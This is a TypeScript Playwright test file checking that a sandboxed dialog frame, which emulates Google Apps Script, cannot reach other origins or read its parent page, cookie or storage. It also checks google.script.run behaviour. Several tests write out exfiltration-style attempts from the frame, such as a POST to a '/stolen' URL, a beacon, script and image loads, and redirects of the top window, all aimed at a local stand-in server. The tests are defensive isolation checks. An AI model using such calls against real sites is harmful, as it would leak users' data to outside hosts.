import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Frame } from 'playwright-core';
import { launchBrowser } from '../browser';
import { distWith } from '../local/script-project';
import { type OpenedWindow, openWindow } from './opened-window';
import { type ServedShop, serveShop } from './served-shop';

/** A page that wants out, as a dialog. */
const BUNDLE = `
function onOpen() { SpreadsheetApp.getUi().createMenu('Shop').addItem('Show', 'show').addToUi(); }
function show() { SpreadsheetApp.getUi().showModelessDialog(HtmlService.createHtmlOutput('<p id="here">inside</p>'), 'Inside'); }
function secret_() { return 'secret'; }
function whenWasIt() { return { at: new Date() }; }
function refuse() { throw new Error('not today'); }
function echo(value) { return value; }
`;

let browser: Browser;
let shop: ServedShop;
let elsewhere: Server;
let elsewhereUrl: string;
/** Whatever reached the foreign server. */
const reached: string[] = [];
let opened: OpenedWindow;
let frame: Frame;

beforeAll(async () => {
  browser = await launchBrowser();
  elsewhere = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((listening) => elsewhere.listen(0, '127.0.0.1', listening));
  elsewhereUrl = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  shop = await serveShop({ dist: distWith(BUNDLE), owner: 'owner@example.com' });
});
afterAll(async () => {
  await browser.close();
  await shop.close();
  elsewhere.close();
});
beforeEach(async () => {
  reached.length = 0;
  opened = await openWindow(browser, shop, 'en');
  await opened.page.evaluate("localStorage.setItem('of the page', 'hidden')");
  await opened.page.locator('dialog').waitFor();
  frame = await opened.frame();
  await frame.locator('#here').waitFor();
});
afterEach(() => opened.page.context().close());

/** Runs in the frame; what is thrown comes back as text. */
const inside = (code: string): Promise<unknown> =>
  frame.evaluate(
    `(async () => { try { return await (${code}); } catch (error) { return 'thrown: ' + error.name; } })()`,
  );

describe('a page of the product cannot leave its frame', () => {
  it('it can neither ask the server nor anybody else', async () => {
    for (const url of [`${shop.origin}/api/book`, `${elsewhereUrl}/stolen`])
      expect(await inside(`fetch('${url}', { method: 'POST', body: '{}' })`)).toBe('thrown: TypeError');
    expect(
      await inside(
        `navigator.sendBeacon('${elsewhereUrl}/beacon', 'x'), new Promise((f) => setTimeout(f, 300, 'sent'))`,
      ),
    ).toBe('sent');
    expect(reached).toEqual([]);
  });

  it('it loads no image, script or style from anywhere', async () => {
    const code = `new Promise((done) => {
      document.body.insertAdjacentHTML('beforeend', '<img src="${elsewhereUrl}/pixel"><link rel="stylesheet" href="${elsewhereUrl}/css">');
      const script = document.createElement('script'); script.src = '${elsewhereUrl}/js'; document.body.append(script);
      setTimeout(done, 500, 'tried');
    })`;
    expect(await inside(code)).toBe('tried');
    expect(reached).toEqual([]);
  });

  it('it sees neither the page around it, nor its cookie, nor what it keeps', async () => {
    expect(await inside('parent.document.title')).toBe('thrown: SecurityError');
    expect(await inside('document.cookie')).toBe('thrown: SecurityError');
    expect(await inside("localStorage.getItem('of the page')")).toBeNull();
  });

  it('it cannot take the window elsewhere, nor go elsewhere itself with what it knows', async () => {
    await inside(`top.location = '${elsewhereUrl}/top'`);
    await inside(`window.open('${elsewhereUrl}/window') === null`);
    await inside(`(location = '${elsewhereUrl}/self', 1)`).catch(() => undefined);
    await opened.page.waitForTimeout(700);
    expect(reached).toEqual([]);
    expect(opened.page.url()).toBe(`${shop.origin}/`);
  });

  it('what it keeps is there the next time, for the same person', async () => {
    await inside("localStorage.setItem('draft', 'half a sentence')");
    await opened.page.reload();
    await opened.page.locator('dialog').waitFor();
    frame = await opened.frame();
    expect(await inside("localStorage.getItem('draft')")).toBe('half a sentence');
  });
});

const call = (name: string, argument = ''): Promise<unknown> =>
  inside(`new Promise((done) => google.script.run
    .withSuccessHandler((value) => done({ value }))
    .withFailureHandler((error) => done({ isError: error instanceof Error, message: error.message }))
    .${name}(${argument}))`);

describe('google.script.run in a frame gives what it gives on Google', () => {
  it('a value comes back as it was sent, a Date makes the whole result null', async () => {
    expect(await call('echo', '{ a: [1, "二", null] }')).toEqual({ value: { a: [1, '二', null] } });
    expect(await call('whenWasIt')).toEqual({ value: null });
  });

  it('what is thrown reaches the failure handler as an Error with its message', async () => {
    expect(await call('refuse')).toEqual({ isError: true, message: expect.stringContaining('not today') });
  });

  it('a function that does not exist fails; a private one is not there to be called', async () => {
    expect(await call('missing')).toMatchObject({ isError: true });
    expect(await inside('typeof google.script.run.secret_')).toBe('undefined');
  });

  it('google.script.host.close closes the dialog', async () => {
    await inside('google.script.host.close()').catch(() => undefined);
    await opened.page.locator('dialog').waitFor({ state: 'detached' });
  });

  it('the page obeys nobody but its own frames', async () => {
    await opened.page.evaluate("postMessage({ regulars: 'close' }, '*')");
    await opened.page.waitForTimeout(200);
    expect(await opened.page.locator('dialog').count()).toBe(1);
  });
});
